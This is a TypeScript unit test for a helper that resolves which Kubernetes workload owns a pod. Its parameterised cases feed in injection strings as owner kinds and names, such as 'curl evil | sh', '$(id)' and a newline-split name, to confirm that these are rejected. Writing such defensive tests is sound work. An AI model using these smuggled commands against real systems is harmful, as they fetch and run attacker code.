import type { V1OwnerReference, V1Pod } from '../../kubernetes/objects';
import { podFact } from './kubernetesWorkload';

const ownerOf = (
  owner?: Partial<V1OwnerReference>,
  labels?: Record<string, string>,
) =>
  podFact({
    metadata: {
      name: 'api-5d4f-x2x',
      labels,
      ownerReferences: owner && [
        { apiVersion: 'v1', uid: 'u', controller: true, ...owner },
      ],
    },
  } as V1Pod).owner;

const ITSELF = { kind: 'Pod', name: 'api-5d4f-x2x' };

describe('what a pod belongs to', () => {
  it('is its Deployment, its controller, or the pod itself', () => {
    expect(
      ownerOf(
        { kind: 'ReplicaSet', name: 'api-5d4f' },
        { 'pod-template-hash': '5d4f' },
      ),
    ).toEqual({ kind: 'Deployment', name: 'api' });
    expect(ownerOf({ kind: 'StatefulSet', name: 'db.main' })).toEqual({
      kind: 'StatefulSet',
      name: 'db.main',
    });
    expect(ownerOf()).toEqual(ITSELF);
  });

  it.each([
    ['a kind that is none', { kind: 'X; curl evil | sh #', name: 'api' }],
    ['a name that is none', { kind: 'StatefulSet', name: 'x; curl evil | sh' }],
    ['a name of two lines', { kind: 'StatefulSet', name: 'db\nid' }],
    ['a name that is an option', { kind: 'StatefulSet', name: '--all' }],
    ['an endless name', { kind: 'StatefulSet', name: 'a'.repeat(254) }],
    [
      'a ReplicaSet of no Deployment',
      { kind: 'ReplicaSet', name: '$(id)-5d4f' },
    ],
  ])('is not %s', (_what, owner) => {
    expect(ownerOf(owner, { 'pod-template-hash': '5d4f' })).toEqual(ITSELF);
  });
});
